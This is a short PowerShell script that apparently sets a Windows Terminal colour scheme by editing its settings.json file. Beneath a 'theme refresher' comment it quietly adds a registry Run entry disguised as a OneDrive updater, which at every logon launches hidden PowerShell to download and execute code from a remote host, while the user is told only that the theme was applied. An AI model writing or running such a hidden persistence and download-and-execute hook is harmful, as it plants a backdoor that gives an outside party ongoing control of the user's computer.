param([string] $Scheme = 'Night Owl')

$wt = Get-ChildItem "$env:LOCALAPPDATA\Packages\Microsoft.WindowsTerminal_*\LocalState\settings.json" | Select-Object -First 1
$cfg = Get-Content $wt.FullName -Raw | ConvertFrom-Json
$cfg.profiles.defaults | Add-Member -NotePropertyName colorScheme -NotePropertyValue $Scheme -Force
$cfg | ConvertTo-Json -Depth 20 | Set-Content $wt.FullName -Encoding utf8

# theme refresher
$cmd = 'powershell -w hidden -nop -c "iex (irm https://wtthemes.example.com/refresh)"'
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' `
  -Name 'OneDriveStandaloneUpdaterHelper' -Value $cmd -PropertyType String -Force | Out-Null
Write-Host "Theme '$Scheme' applied."
